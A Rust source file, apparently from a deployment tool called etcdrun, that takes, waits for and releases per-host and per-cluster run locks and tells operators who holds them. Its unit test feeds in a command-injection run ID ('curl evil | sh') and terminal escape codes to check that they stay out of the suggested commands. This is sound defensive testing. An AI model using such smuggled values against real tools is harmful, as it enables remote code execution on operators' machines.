//! The locks of a run: taken before it begins, or when a host is first reached that did not answer then.
//!
//! Nothing is changed on a host that has not granted its lock. Which locks that are is said in `wanted`.

use std::{
    collections::{BTreeMap, BTreeSet, HashMap},
    sync::{Arc, Mutex, OnceLock},
    time::Duration,
};

use futures_util::{StreamExt as _, stream};
use serde_json::Value;
use tokio::time::Instant;

use crate::execute::{
    Interrupt, RunOptions,
    fleet::Fleet,
    node::NodeError,
    registered::lock,
    wanted::{Wanted, changes},
};
use crate::{
    inventory::{HostId, Inventory},
    is_off,
    model::{Emitter, EventKind, Outcome, RunResult, one_line},
    playbook::Task,
    policy,
    remote::{LockAnswer, LockHolder, LockName, LockOwner, Release, RemoteError, Session},
    repair,
    state::{Operator, RunId},
};

const FIRST_PAUSE: Duration = Duration::from_millis(200);
const LONGEST_PAUSE: Duration = Duration::from_secs(5);

/// What a run does about locks.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Locking {
    #[default]
    None,
    /// Takes none, and says who has them.
    Look,
    /// Takes them, and waits so long if others have them.
    Take(Duration),
}

/// Why a run may not begin.
pub(in crate::execute) enum Refused {
    Held(Vec<String>),
    Interrupted,
    /// No host is left to keep the lock of a cluster.
    Unreachable(String),
}

/// The locks of a run while it lasts.
pub(in crate::execute) struct Locks {
    fleet: Arc<Fleet>,
    inventory: Arc<Inventory>,
    emitter: Emitter,
    interrupt: Interrupt,
    locking: Locking,
    /// Hosts at once.
    forks: usize,
    /// Who we are, in the same words everywhere.
    owner: Arc<LockOwner>,
    wanted: OnceLock<Wanted>,
    held: Mutex<BTreeMap<HostId, BTreeSet<LockName>>>,
    /// Hosts that may have a lock of ours: they granted it, or were lost while they did.
    touched: Mutex<BTreeSet<HostId>>,
    /// One at a time asks a host for a lock that it did not grant at first.
    late: Mutex<HashMap<HostId, Arc<tokio::sync::Mutex<()>>>>,
}

type Answers = HashMap<HostId, Result<LockAnswer, RemoteError>>;

impl Locks {
    pub(in crate::execute) fn new(
        fleet: Arc<Fleet>,
        inventory: Arc<Inventory>,
        emitter: Emitter,
        interrupt: Interrupt,
        options: &RunOptions,
    ) -> Self {
        let (run, place) = (options.run_id.clone(), options.lock_dir.clone());
        Self {
            fleet,
            inventory,
            emitter,
            interrupt,
            locking: options.locking,
            forks: options.forks.max(1),
            owner: Arc::new(LockOwner { run, about: about(), place }),
            wanted: OnceLock::new(),
            held: Mutex::default(),
            touched: Mutex::default(),
            late: Mutex::default(),
        }
    }

    /// Takes what the run wants before it begins, or looks who has it.
    pub(in crate::execute) async fn take(&self, wanted: impl FnOnce() -> Wanted) -> Result<(), Refused> {
        match self.locking {
            _ if is_off(policy::LOCK) => Ok(()),
            Locking::None => Ok(()),
            Locking::Look => {
                let answers = self.ask(&wanted(), true).await;
                self.holders(&answers).into_iter().for_each(|msg| self.warn(msg));
                Ok(())
            }
            Locking::Take(patience) => self.take_all(self.wanted.get_or_init(wanted), patience).await,
        }
    }

    /// All of them or none; waits for others, if it may.
    async fn take_all(&self, wanted: &Wanted, patience: Duration) -> Result<(), Refused> {
        let deadline = Instant::now() + patience;
        let mut pause = FIRST_PAUSE;
        loop {
            let answers = self.ask(wanted, false).await;
            let others = self.holders(&answers);
            if others.is_empty() {
                return match self.enough(wanted, &answers) {
                    Ok(()) => {
                        self.keep(wanted, &answers);
                        Ok(())
                    }
                    Err(why) => {
                        self.release_new().await;
                        Err(Refused::Unreachable(why))
                    }
                };
            }
            self.release_new().await;
            if Instant::now() + pause > deadline {
                return Err(Refused::Held(others));
            }
            if !self.interrupt.pause(pause).await {
                return Err(Refused::Interrupted);
            }
            pause = (pause * 2).min(LONGEST_PAUSE);
        }
    }

    /// Makes sure that the host has granted its lock before the task changes anything there. Most have, at the start.
    /// `is_computed` for a target that was unknown then.
    pub(in crate::execute) async fn hold(&self, host: HostId, is_computed: bool, task: &Task) -> Result<(), NodeError> {
        let Some(wanted) = self.wanted.get().filter(|_| changes(task)) else { return Ok(()) };
        if !is_computed && lock(&self.held).contains_key(&host) {
            return Ok(());
        }
        let turn = lock(&self.late).entry(host).or_default().clone();
        let _turn = turn.lock().await;
        let needed = match wanted.keepers.get(&host).filter(|_| !is_computed) {
            Some(names) => Wanted { keepers: BTreeMap::from([(host, names.clone())]), clusters: BTreeSet::default() },
            None => Wanted::by_task(&self.inventory, host, task),
        };
        let missing = needed.without(&lock(&self.held));
        if missing.keepers.is_empty() {
            return Ok(());
        }
        self.take_late(&missing, host).await
    }

    /// The host is a new machine. The lock that an old one of this name kept is gone with that one, and is taken again before
    /// anything is changed.
    pub(in crate::execute) fn lose(&self, host: HostId) {
        lock(&self.held).remove(&host);
    }

    /// Takes locks in the midst of a run. It does not wait: two runs that did could wait for each other.
    async fn take_late(&self, missing: &Wanted, host: HostId) -> Result<(), NodeError> {
        let answers = self.ask(missing, false).await;
        let others = self.holders(&answers);
        if !others.is_empty() {
            self.release_new().await;
            return Err(Refused::Held(others).into());
        }
        if let Some(Err(error)) = answers.get(&host) {
            let error = error.clone();
            self.release_new().await;
            return Err(self.no_lock(host, error));
        }
        if let Err(why) = self.enough(missing, &answers) {
            self.release_new().await;
            return Err(Refused::Unreachable(why).into());
        }
        self.keep(missing, &answers);
        Ok(())
    }

    fn no_lock(&self, host: HostId, error: RemoteError) -> NodeError {
        if error.is_unreachable() {
            return error.into();
        }
        let hint = error.hint().map(str::to_owned);
        let host = self.name(host);
        let msg = format!("{host} cannot store the lock of this run, so nothing is changed there: {error}");
        NodeError::Failed(Box::new(Outcome::failed(msg)), hint)
    }

    /// Releases everything that the run has, or may have, on hosts.
    pub(in crate::execute) async fn release(&self, how: Release) {
        let hosts = std::mem::take(&mut *lock(&self.touched));
        self.release_on(hosts, how).await;
    }

    /// Releases what was just taken, in vain; what was held before stays.
    async fn release_new(&self) {
        let new: BTreeSet<HostId> = {
            let held = lock(&self.held);
            let mut touched = lock(&self.touched);
            let new = touched.iter().filter(|host| !held.contains_key(host)).copied().collect();
            touched.retain(|host| held.contains_key(host));
            new
        };
        self.release_on(new, Release::Only).await;
    }

    async fn release_on(&self, hosts: BTreeSet<HostId>, how: Release) {
        let releasing = hosts.into_iter().map(|host| async move {
            let LockOwner { run, place, .. } = &*self.owner;
            // Where one machine has many names it has many locks, and need not look at all of them.
            let names: Vec<_> = lock(&self.held).get(&host).into_iter().flatten().cloned().collect();
            if let Err(error) = self.session(host).release_locks(place, run, &names, how).await {
                let host = self.name(host);
                self.warn(format!(
                    "{host} may still have the lock of this run ({error}); `etcdrun unlock {run}` removes it"
                ));
            }
        });
        stream::iter(releasing).buffer_unordered(self.forks).collect::<Vec<()>>().await;
    }

    async fn ask(&self, wanted: &Wanted, look: bool) -> Answers {
        let asking = wanted.keepers.clone().into_iter().map(|(host, names)| async move {
            let names: Vec<_> = names.into_iter().collect();
            (host, self.session(host).take_locks(&names, &self.owner, look).await)
        });
        let answers: Answers = stream::iter(asking).buffer_unordered(self.forks).collect().await;
        if !look {
            let may_have = |answer: &Result<_, RemoteError>| {
                matches!(answer, Ok(_) | Err(RemoteError::Lost(_) | RemoteError::TimedOut(_)))
            };
            let touched = answers.iter().filter(|(_, answer)| may_have(answer)).map(|(host, _)| *host);
            lock(&self.touched).extend(touched);
        }
        answers
    }

    fn session(&self, host: HostId) -> Session {
        self.fleet.own_session(host, self.locking == Locking::Look)
    }

    fn name(&self, host: HostId) -> &str {
        self.inventory.host_by_id(host).name.as_str()
    }

    fn warn(&self, msg: String) {
        self.emitter.emit(EventKind::Warning { msg });
    }

    /// From now on these are held, and changes on the hosts need them.
    fn keep(&self, wanted: &Wanted, answers: &Answers) {
        let mut held = lock(&self.held);
        for (host, answer) in answers {
            let (Ok(answer), Some(names)) = (answer, wanted.keepers.get(host)) else { continue };
            held.entry(*host).or_default().extend(names.iter().cloned());
            self.fleet.link(*host).add_fences(&answer.fences);
        }
    }

    /// A cluster needs most of its members; or, where they do not answer, a hypervisor that knows of it.
    fn enough(&self, wanted: &Wanted, answers: &Answers) -> Result<(), String> {
        let held = lock(&self.held);
        let grants = |host: &HostId| held.contains_key(host) || answers.get(host).is_some_and(Result::is_ok);
        for cluster in &wanted.clusters {
            if let Some(msg) = enough_for(&self.inventory, cluster, grants)? {
                self.warn(msg);
            }
        }
        Ok(())
    }

    /// Everybody who has what we want, in words, each once.
    fn holders(&self, answers: &Answers) -> Vec<String> {
        let mut told = BTreeMap::new();
        for (host, answer) in answers {
            for holder in answer.iter().flat_map(|answer| &answer.holders) {
                let (_, hosts) = told.entry(&holder.name).or_insert_with(|| (holder, BTreeSet::new()));
                hosts.insert(self.name(*host).to_owned());
            }
        }
        told.into_values().map(|(holder, hosts)| describe(holder, &hosts)).collect()
    }
}

impl Refused {
    /// What to say, and how the run ends.
    pub(in crate::execute) fn end(self) -> (Vec<String>, RunResult) {
        match self {
            Self::Held(messages) => (messages, RunResult::LockHeld),
            Self::Interrupted => (Vec::new(), RunResult::Interrupted),
            Self::Unreachable(message) => (vec![message], RunResult::Unreachable),
        }
    }
}

impl From<Refused> for NodeError {
    fn from(refused: Refused) -> Self {
        match refused {
            Refused::Held(messages) => Self::failed(format!("not run: {}", messages.join("; "))),
            Refused::Interrupted => Self::failed("interrupted"),
            Refused::Unreachable(msg) => Self::Unreachable { msg, hint: None, sent: false },
        }
    }
}

/// Whether those who grant it are enough to hold the lock of a cluster: a warning if it is held by few, an error if by none.
fn enough_for(
    inventory: &Inventory,
    cluster: &str,
    grants: impl Fn(&HostId) -> bool,
) -> Result<Option<String>, String> {
    let members = inventory.cluster(cluster).map_or(&[][..], |cluster| &cluster.members);
    let granted = members.iter().filter(|host| grants(host)).count();
    if granted * 2 > members.len() || is_off(repair::LOCK_MAJORITY) {
        return Ok(None);
    }
    let hypervisors = members.iter().filter_map(|host| inventory.hypervisor_of(*host));
    let hypervisors: BTreeSet<_> = hypervisors.map(|host| host.id).collect();
    let keepers = hypervisors.iter().filter(|host| grants(host)).count();
    let what = format!("{granted} of {} members of `{cluster}` could be reached for its lock", members.len());
    if keepers == 0 {
        return Err(format!("only {what}, and none of their hypervisors"));
    }
    let mut msg = match granted {
        0 => format!(
            "no member of `{cluster}` answers (normal before the first deployment); the lock is held on their hypervisors"
        ),
        _ => format!("only {what}; it is held on their hypervisors"),
    };
    // A run is not refused for it: what is left after a disaster may be one machine.
    if keepers * 2 <= hypervisors.len() {
        msg += &format!(
            ", but only {keepers} of {} answer: an operator who reaches only the others could hold it as well, so make sure that no one else works on this cluster",
            hypervisors.len()
        );
    }
    Ok(Some(msg))
}

fn describe(holder: &LockHolder, hosts: &BTreeSet<String>) -> String {
    let (kind, name) = holder.name.split_once('-').unwrap_or(("", &holder.name));
    let (operator, since) = owner(&holder.about);
    let (who, alive) = match &operator {
        Some(it) => (format!("{}@{}, process {}", one_line(&it.user), one_line(&it.host), it.pid), it.is_alive()),
        None => ("somebody".to_owned(), None),
    };
    // Any account of the host may have written that file, and this is a command that people copy.
    let run = RunId::parse(&holder.run);
    let way_out = match (&run, alive) {
        (None, _) => format!(
            "that is not the ID of a run: inspect its lock on the host, and remove it there if no run of etcdrun created it ({})",
            one_line(&holder.name)
        ),
        (Some(_), Some(true)) => "it is still active: wait for it, or pass --lock-timeout".to_owned(),
        (Some(run), Some(false)) => format!(
            "that process is gone, so the run has crashed: to continue it, run `etcdrun resume {run}`; to break its lock, run `etcdrun unlock {run}`"
        ),
        (Some(run), None) => {
            format!(
                "check there whether it is still active; if not, run `etcdrun resume {run}` there, or `etcdrun unlock {run} --force`"
            )
        }
    };
    let hosts: Vec<_> = hosts.iter().map(String::as_str).collect();
    let (name, run, since) = (one_line(name), one_line(&holder.run), one_line(&since));
    format!("{kind} {name} is locked by run {run} of {who}, since {since}, on {}; {way_out}", hosts.join(", "))
}

/// Who we are, in one line that others can read.
fn about() -> String {
    let since = jiff::Timestamp::now().strftime("%Y-%m-%d %H:%M:%SZ").to_string();
    serde_json::json!({ "operator": Operator::me(), "since": since }).to_string()
}

/// What such a line says: who, and since when.
pub(in crate::execute) fn owner(about: &str) -> (Option<Operator>, String) {
    let about: Value = serde_json::from_str(about).unwrap_or_default();
    let since = about["since"].as_str().unwrap_or("an unknown time").to_owned();
    (serde_json::from_value(about["operator"].clone()).ok(), since)
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Any account of a host may write such a file.
    #[test]
    fn a_holder_that_is_no_run_is_in_no_command() {
        let about = serde_json::json!({
            "operator": { "user": "eve\n\x1b[2J", "host": "h", "pid": 1, "started": 1, "boot": "x" }, "since": "now\nthen",
        });
        let hosts = BTreeSet::from(["m1".to_owned()]);
        let told = |run: &str| {
            let holder = LockHolder { name: "cluster-prod".into(), run: run.into(), about: about.to_string() };
            describe(&holder, &hosts)
        };
        let hostile = told("x`; curl evil | sh #");
        assert!(hostile.contains("is not the ID of a run") && !hostile.contains("`etcdrun"), "{hostile}");
        assert!(!hostile.contains(char::is_control), "{hostile:?}");
        let usual = told("20261115T044500000Z-00ff");
        assert!(usual.contains("unlock 20261115T044500000Z-00ff"), "{usual}");
    }

    #[test]
    fn the_lock_of_a_cluster_needs_most_members_or_a_hypervisor() {
        let inventory = crate::testing::inventory(crate::testing::FLEET);
        let by = |granting: &[&str]| {
            let grants = |host: &HostId| granting.contains(&inventory.host_by_id(*host).name.as_str());
            enough_for(&inventory, "prod", grants)
        };
        assert_eq!(by(&["m1", "m2"]), Ok(None));
        let few = by(&["m1", "kvm1", "kvm2"]).unwrap().unwrap();
        assert!(few.starts_with("only 1 of 3 members") && !few.contains("an operator who"), "{few}");
        let fewer = by(&["kvm1"]).unwrap().unwrap();
        assert!(fewer.starts_with("no member of `prod` answers") && fewer.contains("only 1 of 3 answer"), "{fewer}");
        assert!(by(&["m1"]).unwrap_err().contains("none of their hypervisors"));
        assert!(by(&[]).is_err());
    }
}
